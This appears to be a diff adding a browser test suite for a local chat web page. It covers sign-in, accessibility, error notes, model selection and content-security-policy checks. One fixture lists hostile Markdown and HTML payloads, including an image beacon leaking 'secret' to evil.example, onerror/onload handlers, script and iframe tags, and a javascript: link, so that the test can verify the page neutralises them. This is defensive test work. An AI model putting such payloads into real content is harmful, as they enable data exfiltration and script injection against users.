@@ -1,0 +1,292 @@
+/** States that a real model cannot be asked for, on a stand-in server. */
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+
+import {
+  DESKTOP,
+  PHONE,
+  DIST,
+  FOREIGN_HOST,
+  ask,
+  checkAccessibility,
+  checkFits,
+  field,
+  launch,
+  openPage,
+  shoot,
+} from "./browser.mjs";
+import { startFakeServer } from "./fake-server.mjs";
+
+const FAILED_REQUEST = /^Failed to load resource/u;
+const HOSTILE = [
+  "![pixel](https://evil.example/leak?q=secret)",
+  '<img src="https://evil.example/x" onerror="alert(1)">',
+  "<script src=https://evil.example/s.js></script>",
+  "[run](javascript:alert(1)) [link](https://evil.example/page)",
+  '<svg onload="alert(1)"></svg> <iframe src=https://evil.example></iframe>',
+  '<p style="background:url(https://evil.example/b)">styled</p>',
+].join("\n\n");
+const RICH = [
+  "# Title",
+  "Text with `code`, **bold** and *italic*.",
+  "1. one\n2. two",
+  "```python\nprint('a line that is much longer than a phone is wide, so that it scrolls sideways')\n```",
+  "| name | value |\n|:--|--:|\n| a | 1 |",
+  "> quoted",
+].join("\n\n");
+
+let browser;
+let server;
+let visitor;
+
+before(async () => {
+  server = await startFakeServer({ dist: DIST, models: ["first-model", "second-model"] });
+  browser = await launch();
+  visitor = await openPage(browser, server.origin, { expected: [FAILED_REQUEST] });
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+async function noteAfter(question) {
+  const { page } = visitor;
+  await ask(page, question);
+  const note = page.locator(".turn:last-child [role=alert]");
+  await note.waitFor();
+  return note.innerText();
+}
+
+describe("without a session", () => {
+  test("the page says how to get in, by keyboard too", async () => {
+    const { page } = visitor;
+    await page.goto(server.origin);
+    await page.getByRole("heading", { name: "Open your link" }).waitFor();
+    await checkAccessibility(page, "sign-in");
+    await shoot(page, "sign-in-en");
+    await page.keyboard.press("Tab");
+    assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
+    await page.getByLabel("Link or token").press("Enter");
+    await page.getByText("Paste a link or a token first.").waitFor();
+    await page.getByLabel("Link or token").fill(server.link);
+    await page.getByLabel("Link or token").press("Enter");
+    await field(page).waitFor();
+  });
+
+  test("a link pasted into the open tab is used and refused once spent", async () => {
+    const other = await openPage(browser, server.origin);
+    await other.page.goto(server.origin);
+    await other.page.getByRole("heading", { name: "Open your link" }).waitFor();
+    await other.page.goto(`${server.origin}/#token=spent`);
+    await other.page.getByRole("alert").waitFor();
+    assert.equal(other.page.url(), `${server.origin}/`);
+    assert.deepEqual(other.problems, []);
+    await other.context.close();
+  });
+});
+
+describe("an answer", () => {
+  test("of hostile Markdown loads, runs and styles nothing", async () => {
+    const { page } = visitor;
+    await ask(page, `say ${HOSTILE}`);
+    await page.locator(".turn:last-child .prov").waitFor();
+    const turn = page.locator(".turn:last-child .answer");
+    assert.match(await turn.innerText(), /\[image · pixel · evil\.example\]/u);
+    assert.equal(await turn.locator("img,script,iframe,[onerror],[onload],[style]").count(), 0);
+    const links = await turn.locator("a").evaluateAll((found) => found.map((a) => [a.href, a.rel]));
+    assert.deepEqual(links, [["https://evil.example/page", "noopener noreferrer"]]);
+    assert.match(await turn.innerText(), /link \(evil\.example\)/u);
+  });
+
+  test("with every kind of block is accessible and fits a phone", async () => {
+    const { page } = visitor;
+    await ask(page, `say ${RICH}`);
+    await page.locator(".turn:last-child .prov").waitFor();
+    await checkAccessibility(page, "a rich answer");
+    await page.setViewportSize(PHONE);
+    await checkFits(page, "a rich answer");
+    await page.locator(".turn:last-child pre").scrollIntoViewIfNeeded();
+    await page.getByRole("button", { name: "More below" }).waitFor({ state: "hidden" });
+    await shoot(page, "rich-en-390");
+    await page.setViewportSize(DESKTOP);
+    await shoot(page, "rich-en-1440");
+  });
+
+  test("explains its figures on demand", async () => {
+    const { page } = visitor;
+    await page
+      .locator(".turn:last-child")
+      .getByRole("button", { name: /figures/u })
+      .click();
+    const dialog = page.getByRole("dialog");
+    assert.match(await dialog.innerText(), /33\s*g\/kWh, 2022/u);
+    await checkAccessibility(page, "the details of the figures");
+    await shoot(page, "details-en-1440");
+    await page.keyboard.press("Escape");
+    await dialog.waitFor({ state: "hidden" });
+  });
+
+  test("stands at the top when it begins, and nothing scrolls afterwards", async () => {
+    const { page } = visitor;
+    await ask(page, "long");
+    const scroller = page.locator(".scroll");
+    await page.locator(".turn:last-child .block").waitFor();
+    const start = await scroller.evaluate(({ scrollTop }) => scrollTop);
+    const top = await page.locator(".turn:last-child").evaluate((turn) => {
+      const view = turn.closest(".scroll").getBoundingClientRect();
+      return turn.getBoundingClientRect().top - view.top;
+    });
+    assert.ok(top >= 0 && top <= 48, `the question is ${top} px below the top`);
+    await page.locator(".turn:last-child .prov").waitFor();
+    assert.equal(await scroller.evaluate(({ scrollTop }) => scrollTop), start);
+  });
+
+  test("offers what is below the fold, and follows only when asked", async () => {
+    const { page } = visitor;
+    await page.setViewportSize({ width: 390, height: 420 });
+    await ask(page, "long");
+    await page.getByRole("button", { name: "More below" }).click();
+    const line = page.locator(".turn:last-child .prov");
+    await line.waitFor();
+    const isVisible = await line.evaluate((element) => {
+      const view = element.closest(".scroll").getBoundingClientRect();
+      return element.getBoundingClientRect().bottom <= view.bottom + 1;
+    });
+    assert.ok(isVisible, "the end of the answer is in view");
+    await page.setViewportSize(DESKTOP);
+  });
+
+  test("is announced by its start and its end, not by its text", async () => {
+    const { page } = visitor;
+    await page.evaluate(() => {
+      window.said = [];
+      const status = document.querySelector("[role=status]");
+      const note = () => window.said.push(status.textContent);
+      new MutationObserver(note).observe(status, { childList: true, subtree: true });
+    });
+    await ask(page, "long");
+    await page.waitForFunction(() => window.said.some((text) => text.includes("complete")));
+    const said = await page.evaluate(() => window.said.filter((text) => text !== ""));
+    assert.deepEqual(said, ["Answer started", "Answer complete, 84 tokens"]);
+    assert.equal(await page.locator(".answer [aria-live]").count(), 0);
+  });
+});
+
+describe("a failure", () => {
+  test("in the middle of an answer keeps the text and offers to try again", async () => {
+    const { page } = visitor;
+    const note = await noteAfter("break");
+    assert.match(note, /connection to the server was lost.*is kept.*page\.interrupted/su);
+    assert.match(await page.locator(".turn:last-child .block").innerText(), /^One two three/u);
+    await checkAccessibility(page, "a broken answer");
+    await shoot(page, "interrupted-en-1440");
+  });
+
+  test("with a known code has a text of its own", async () => {
+    assert.match(
+      await noteAfter("too long"),
+      /longer than this model can read.*context\.too_long/su,
+    );
+  });
+
+  test("with an unknown code shows the server's words", async () => {
+    assert.match(
+      await noteAfter("unknown code"),
+      /The server says tray\.empty.*Fill the tray.*tray\.empty/su,
+    );
+  });
+
+  test("of the session asks to sign in on the spot and keeps the conversation", async () => {
+    const { page } = visitor;
+    const turns = await page.locator(".turn").count();
+    await noteAfter("session ends");
+    assert.ok(await page.locator(".turn:last-child").getByLabel("Link or token").isVisible());
+    assert.equal(await page.locator(".turn").count(), turns + 1);
+    await checkAccessibility(page, "an ended session");
+  });
+});
+
+test("a model is chosen from the list", async () => {
+  const { page } = visitor;
+  await page.getByRole("button", { name: /first-model/u }).click();
+  await checkAccessibility(page, "the list of models");
+  await page.getByRole("option", { name: "second-model" }).click();
+  await ask(page, "say hi");
+  await page.locator(".turn:last-child .prov").waitFor();
+  assert.match(await page.locator(".turn:last-child h3").innerText(), /second-model/u);
+});
+
+test("Shift+Enter starts a new line, Enter while composing sends nothing", async () => {
+  const { page } = visitor;
+  const turns = await page.locator(".turn").count();
+  await field(page).fill("one");
+  await field(page).press("Shift+Enter");
+  await field(page).evaluate((element) => {
+    const init = { key: "Enter", bubbles: true, cancelable: true, isComposing: true };
+    element.dispatchEvent(new KeyboardEvent("keydown", init));
+  });
+  assert.equal(await field(page).inputValue(), "one\n");
+  assert.equal(await page.locator(".turn").count(), turns);
+});
+
+test("with forced colours and reduced motion the page still works", async () => {
+  const { page } = visitor;
+  await page.emulateMedia({ forcedColors: "active", reducedMotion: "reduce" });
+  await shoot(page, "forced-colours-en");
+  await page.emulateMedia({ forcedColors: "none", reducedMotion: "no-preference" });
+});
+
+test("a server without a model says how to install one", async () => {
+  const bare = await startFakeServer({ dist: DIST, models: [] });
+  const { page, context, problems } = await openPage(browser, bare.origin);
+  await page.goto(bare.link);
+  await page.getByText("galerne model import").waitFor();
+  await checkAccessibility(page, "no model");
+  assert.deepEqual(problems, []);
+  await context.close();
+  await bare.close();
+});
+
+test("on a plain network address the page copies, and says when the network is gone", async () => {
+  const foreign = await startFakeServer({ dist: DIST });
+  const origin = `http://${FOREIGN_HOST}:${new URL(foreign.origin).port}`;
+  const { page, context, problems } = await openPage(browser, origin);
+  await page.goto(foreign.link.replace(foreign.origin, origin));
+  await field(page).waitFor();
+  assert.equal(await page.evaluate(() => window.isSecureContext), false);
+  await ask(page, "say copied words");
+  await page.getByRole("button", { name: "Copy the answer" }).click();
+  await page.getByRole("button", { name: "Copied" }).waitFor();
+  await field(page).focus();
+  await page.keyboard.press("Control+V");
+  assert.equal(await field(page).inputValue(), "copied words");
+  await context.setOffline(true);
+  await page.getByText("You are offline.").waitFor();
+  await checkAccessibility(page, "offline");
+  await context.setOffline(false);
+  await page.getByText("You are offline.").waitFor({ state: "detached" });
+  assert.deepEqual(problems, []);
+  await context.close();
+  await foreign.close();
+});
+
+test("a violation of the policy would be noticed", async () => {
+  const { page, context, problems } = await openPage(browser, server.origin);
+  await page.goto(server.origin);
+  await page.evaluate(() => document.body.setAttribute("style", "color: red"));
+  await page.evaluate(() => fetch("https://elsewhere.example/").catch(() => undefined));
+  const expected = ["policy: style-src-attr", "policy: connect-src", "console: "];
+  await page.waitForFunction(() => true);
+  for (const start of expected) {
+    assert.ok(
+      problems.some((problem) => problem.startsWith(start)),
+      `${start} in ${problems}`,
+    );
+  }
+  await context.close();
+});
+
+test("the page broke no rule and talked to nobody else", () => {
+  assert.deepEqual(visitor.problems, []);
+});
